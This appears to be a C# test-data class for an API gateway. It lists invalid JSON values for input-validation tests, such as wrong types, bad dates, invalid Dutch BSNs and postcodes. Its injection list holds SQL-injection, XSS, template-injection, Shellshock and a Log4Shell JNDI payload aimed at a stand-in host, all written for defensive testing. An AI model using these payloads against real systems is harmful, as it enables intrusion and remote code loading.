using System.Globalization;
using System.Text.Json;

namespace Hub.Gateway.Tests.BadInputs;

/// <summary>Families of invalid values as raw JSON. Each value breaks the field it is meant for, whatever the rest of the body.</summary>
internal static class InvalidValues
{
    /// <summary>None of these is a BSN, postcode, code, term, name, phone, email address or enum value.</summary>
    public static readonly string[] Injections =
    [
        "'; DROP TABLE vacancies; --", "\" OR \"1\"=\"1", "Robert'); DROP TABLE students;--", "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "{{7*7}}", "${7*7}", "${jndi:ldap://evil.example/a}", "%00", "\0", "\u202Eevil",
        "\uFEFF", "\u200B", "\U0001F3D7\uFE0F", "\\\\server\\share", "() { :; }; echo pwned",
    ];

    public static readonly string[] WrongTypesForString = ["123", "true", "false", "{}", "[]", "1.5", "[\"a\"]", "{\"value\":\"x\"}"];
    public static readonly string[] WrongTypesForInteger = ["\"abc\"", "true", "{}", "[]", "1.5", "\"\"", "99999999999", "-99999999999", "1e400", "\"12abc\"", "[1]"];
    public static readonly string[] WrongTypesForBoolean = ["\"true\"", "\"yes\"", "1", "0", "{}", "[]", "\"\"", "null"];
    public static readonly string[] WrongTypesForArray = ["\"7126\"", "7126", "{}", "true", "\"\""];
    public static readonly string[] WrongTypesForObject = ["\"contact\"", "1", "[]", "true"];
    public static readonly string[] MalformedDates =
    [
        "20270101", "\"31-12-2026\"", "\"2026-13-01\"", "\"2027-02-30\"", "\"tomorrow\"", "\"2026-1-1\"", "true", "{}", "\"\"", "\"2026/07/01\"",
    ];

    public static string Json(string value) => JsonSerializer.Serialize(value);

    public static string Date(DateOnly date) => Json(date.ToString("yyyy-MM-dd", CultureInfo.InvariantCulture));

    public static IEnumerable<string> Strings(params string[] values) => values.Select(Json);

    public static IEnumerable<string> InjectionStrings => Strings(Injections);

    /// <summary>Nine digits that fail the 11-check, and things that only look like a BSN.</summary>
    public static IEnumerable<string> Bsns(Random random)
    {
        for (var i = 0; i < 12; i++)
        {
            yield return Json(NineDigitsFailingElevenCheck(random));
        }
        foreach (var value in Strings("12345678", "1234567890", "000000000", "111 222 333", "111.222.333", "11122233A", " 111222333",
            "-11222333", "", "\uFF11\uFF11\uFF11\uFF12\uFF12\uFF12\uFF13\uFF13\uFF13", "\u0661\u0661\u0661\u0662\u0662\u0662\u0663\u0663\u0663"))
        {
            yield return value;
        }
        yield return "111222333";
    }

    public static IEnumerable<string> Postcodes() => Strings(
        "0925AB", "8925 SA", "8925SD", "8925 SS", "8925-AB", "892AB", "89255AB", "8925 A", "ABCD EF", "8925AB1", "8925  AB",
        "\uFF18\uFF19\uFF12\uFF15\uFF21\uFF22", "8925\u00A0AB", "8925\tAB", "", "   ", "8925 \u0410B");

    public static IEnumerable<string> Terms(int maxEntries) =>
    [
        "[null]", "[\"\"]", "[\"   \"]", $"[{Json(new string('x', 61))}]", "[123]", "[[\"nested\"]]",
        .. Injections.Select(injection => $"[\"ok\", {Json(injection)}]"),
        $"[{string.Join(',', Enumerable.Range(0, maxEntries + 1).Select(i => Json($"term {i}")))}]",
    ];

    public static IEnumerable<string> IntegersOutside(int min, int max) =>
        new[] { min - 1, max + 1, int.MinValue, int.MaxValue, min - 1000 }.Distinct().Select(i => i.ToString(CultureInfo.InvariantCulture));

    private static string NineDigitsFailingElevenCheck(Random random)
    {
        var digits = Enumerable.Range(0, 9).Select(_ => random.Next(10)).ToArray();
        var sum = Enumerable.Range(0, 8).Sum(i => (9 - i) * digits[i]) - digits[8];
        if (sum % 11 == 0)
        {
            digits[8] = (digits[8] + 1) % 10;
        }
        return string.Concat(digits);
    }
}
